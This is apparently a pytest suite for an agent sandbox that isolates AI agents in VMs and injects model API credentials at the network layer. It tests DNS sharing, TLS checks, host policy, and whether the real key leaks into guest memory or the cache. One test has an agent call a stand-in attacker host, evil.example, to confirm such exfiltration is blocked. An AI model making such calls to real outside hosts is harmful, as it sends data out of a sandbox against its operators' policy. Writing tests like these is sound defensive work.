"""The network slice in real VMs: names, TLS, credentials and policy between an agent and a model server; and where the secret is not."""

from __future__ import annotations

import contextlib
import json
import re
import subprocess
from collections.abc import Iterator
from pathlib import Path

import pytest
from agentfw.mock_dns import MockDNSThread
from agentfw.mock_llm import MockLLMThread, MockOptions

from tests.conftest import COMMAND, Agentfw

pytestmark = pytest.mark.kvm

NAME = "api.openai.com"
KEY = "sk-real-5e0c1b7d94a2f6083"
PLACEHOLDER = "sk-agentfw-placeholder"
EXAMPLES = Path(__file__).resolve().parents[2] / "examples"

CONFIG = """\
[policy]
allow = ["{name}:{port}"]
allow_addresses = ["127.0.0.1/32"]

[dns]
upstream = ["{dns}"]

[tls]
ca_files = ["{ca}"]
shared = ["{name}:{port}"]

[[credentials.rule]]
host = "{name}:{port}"
header = "authorization"
value = "Bearer ${{env:MODEL_KEY}}"
"""


class Slice:
    """A model server, its name server, and a configuration that goes to both."""

    def __init__(self, folder: Path, model: MockLLMThread, dns: MockDNSThread, ca: str | None = None) -> None:
        self.model, self.dns = model, dns
        (folder / "ca.pem").write_text(ca or model.ca_pem)
        self.config = folder / "agentfw.toml"
        self.config.write_text(CONFIG.format(name=NAME, port=model.port, dns=dns.address, ca=folder / "ca.pem"))
        self.env = {"MODEL_KEY": KEY}
        self.arguments = ["run", "--config", str(self.config), "--plugins", "dns,tls,policy,credentials", "--env",
                          f"OPENAI_BASE_URL=https://{NAME}:{model.port}/v1", "--env", f"OPENAI_API_KEY={PLACEHOLDER}"]  # fmt: skip


@pytest.fixture
def network(tmp_path: Path) -> Iterator[Slice]:
    with MockLLMThread(MockOptions(keys=(KEY,), latency=0.02)) as model, MockDNSThread({NAME: "127.0.0.1"}) as dns:
        yield Slice(tmp_path, model, dns)


def test_twenty_agents_share_one_query_and_few_handshakes(network: Slice, agentfw: Agentfw) -> None:
    done = agentfw(*network.arguments, "--json", "-n", 20, EXAMPLES / "agent_stdlib.py", "Hello", "there", env=network.env)
    assert done.returncode == 0, done.stderr
    ran = json.loads(done.stdout)
    assert [agent["stdout"] for agent in ran["agents"]] == ["echo: Hello there\n"] * 20
    assert network.dns.asked(NAME, "A") == 1
    assert network.dns.asked(NAME, "AAAA") <= 1
    served = network.model.stats()
    assert served["requests"] == 20 and served["unauthorized"] == 0
    assert served["handshakes"] == ran["statistics"]["tls.handshakes"] <= 13, (
        "handshakes are the held connections', not the agents'"
    )
    assert ran["statistics"]["credentials.injected"] == 20
    assert KEY not in done.stdout + done.stderr


def test_the_openai_sdk_plain_and_streamed(network: Slice, agentfw: Agentfw) -> None:
    done = agentfw(*network.arguments, EXAMPLES / "agent_openai.py", "Hello", env=network.env)
    assert (done.returncode, done.stdout) == (0, "plain:    echo: Hello\nstreamed: echo: Hello\n"), done.stderr
    assert network.model.stats()["streams"] == 1


ASYNC = """
import asyncio, os, ssl, urllib.parse
url = urllib.parse.urlsplit(os.environ["OPENAI_BASE_URL"])
async def one(n):
    reader, writer = await asyncio.open_connection(url.hostname, url.port, ssl=ssl.create_default_context())
    body = b'{"model":"m","messages":[{"role":"user","content":"call %d"}]}' % n
    writer.write(b"POST /v1/chat/completions HTTP/1.1\\r\\nHost: %s:%d\\r\\nAuthorization: Bearer %s\\r\\nContent-Length: %d\\r\\nConnection: close\\r\\n\\r\\n"
                 % (url.hostname.encode(), url.port, os.environ["OPENAI_API_KEY"].encode(), len(body)) + body)
    reply = await reader.read()
    tls = writer.get_extra_info("ssl_object")
    assert b"echo: call %d" % n in reply, reply
    assert tls.version() in ("TLSv1.2", "TLSv1.3") and tls.getpeercert()["subjectAltName"]
    writer.close()
async def main():
    await asyncio.gather(*(one(n) for n in range(8)))
    print("eight")
asyncio.run(main())
"""


def test_asyncio_streams_at_once(network: Slice, agentfw: Agentfw) -> None:
    done = agentfw(*network.arguments, "-c", ASYNC, env=network.env)
    assert (done.returncode, done.stdout) == (0, "eight\n"), done.stderr


CALL = """
import os, urllib.request, urllib.error, json, sys
def call(key=os.environ["OPENAI_API_KEY"], base=os.environ["OPENAI_BASE_URL"]):
    request = urllib.request.Request(base + "/chat/completions", json.dumps({"model": "m", "messages": [{"role": "user", "content": "x"}]}).encode(),
                                     {"Authorization": "Bearer " + key})
    try:
        return json.load(urllib.request.urlopen(request))["choices"][0]["message"]["content"]
    except urllib.error.HTTPError as error:
        return f"{error.code} {error.read().decode()}"
    except OSError as error:
        return f"{type(getattr(error, 'reason', error)).__name__}: {getattr(error, 'reason', error)}"
"""


def test_an_agents_own_key_is_refused_on_a_route_with_credentials(network: Slice, agentfw: Agentfw) -> None:
    done = agentfw(*network.arguments, "-c", CALL + "print(call('sk-mine'))", env=network.env)
    assert done.stdout.startswith("403 ") and "credentials" in done.stdout, done
    assert network.model.stats()["requests"] == 0


def test_a_name_that_is_not_allowed(network: Slice, agentfw: Agentfw) -> None:
    code = CALL + "print(call(base='https://evil.example:8443/v1'))"
    done = agentfw(*network.arguments, "-c", code, env=network.env)
    assert done.returncode == 0 and not done.stdout.startswith("echo"), done
    assert network.dns.asked("evil.example", "A") == 0, "policy comes before the resolver: names carry data out"
    numeric = CALL + f"print(call(base='https://127.0.0.1:{network.model.port}/v1'))"
    done = agentfw(*network.arguments, "-c", numeric, env=network.env)
    assert not done.stdout.startswith("echo") and network.model.stats()["requests"] == 0, done


def test_wrong_certificate_is_the_agents_verification_error(network: Slice, tmp_path: Path, agentfw: Agentfw) -> None:
    with MockLLMThread(MockOptions()) as other:
        wrong = Slice(tmp_path, network.model, network.dns, ca=other.ca_pem)
        done = agentfw(*wrong.arguments, "-c", CALL + "print(call())", env=wrong.env)
    assert done.stdout.startswith("SSLCertVerificationError: ") and "certificate verify failed" in done.stdout, done
    assert network.model.stats()["requests"] == 0


def test_upstream_that_is_down(network: Slice, agentfw: Agentfw) -> None:
    port = network.model.port
    network.model.__exit__(None, None, None)
    done = agentfw(*network.arguments, "-c", CALL + "print(call())", env=network.env)
    assert done.returncode == 0 and not done.stdout.startswith("echo"), done
    assert "Traceback" not in done.stderr, done.stderr
    assert str(port) not in KEY


# ---- the secret


WAIT = CALL + "print(call(), flush=True)\nsys.stdin.read()\n"


def _children(pid: int) -> Iterator[int]:
    for task in Path(f"/proc/{pid}/task").iterdir():
        with contextlib.suppress(OSError):
            yield from map(int, (task / "children").read_text().split())


def _memory_holds(pid: int, needles: list[bytes]) -> dict[bytes, int]:
    """How often each needle stands in the memory of a process (for a cell: all of its VMs' memory and their I/O windows, too)."""
    found = dict.fromkeys(needles, 0)
    process = Path(f"/proc/{pid}")
    with (process / "mem").open("rb", buffering=0) as memory:
        for line in (process / "maps").read_text(errors="replace").splitlines():
            match = re.match(r"([0-9a-f]+)-([0-9a-f]+) r", line)
            if not match or "[v" in line:
                continue
            start, end = int(match[1], 16), int(match[2], 16)
            tail = b""
            for at in range(start, end, 1 << 22):
                try:
                    memory.seek(at)
                    data = memory.read(min(1 << 22, end - at))
                except (OSError, ValueError):
                    break
                for needle in needles:
                    found[needle] += (tail + data).count(needle)
                tail = data[-64:]
    return found


def test_the_secret_is_nowhere_in_the_cell_or_its_guests(
    network: Slice, agentfw_environment: dict[str, str], tmp_path: Path, nothing_left: None
) -> None:
    agentfw_command = [*COMMAND, *network.arguments, "-c", WAIT]
    process = subprocess.Popen(
        agentfw_command, stdin=subprocess.PIPE, stdout=subprocess.PIPE, cwd=tmp_path, env={**agentfw_environment, **network.env}
    )
    try:
        assert process.stdout is not None and process.stdin is not None
        assert process.stdout.readline() == b"echo: x\n"
        cells = [pid for pid in _children(process.pid) if b"agentfw-cell" in Path(f"/proc/{pid}/cmdline").read_bytes()]
        assert len(cells) == 1
        needles = [KEY.encode(), PLACEHOLDER.encode()]
        inside, worker = _memory_holds(cells[0], needles), _memory_holds(process.pid, needles)
        assert worker[KEY.encode()], "the search itself works: the runtime has the key"
        assert inside[PLACEHOLDER.encode()], "the search itself works: the guest has the placeholder"
        assert inside[KEY.encode()] == 0
        assert b"MODEL_KEY" not in Path(f"/proc/{cells[0]}/environ").read_bytes()
    finally:
        process.communicate(timeout=20)
    assert process.returncode == 0
    for file in Path(agentfw_environment["XDG_CACHE_HOME"]).rglob("*"):
        if file.is_file():
            assert KEY.encode() not in file.read_bytes(), f"{file} holds the key"
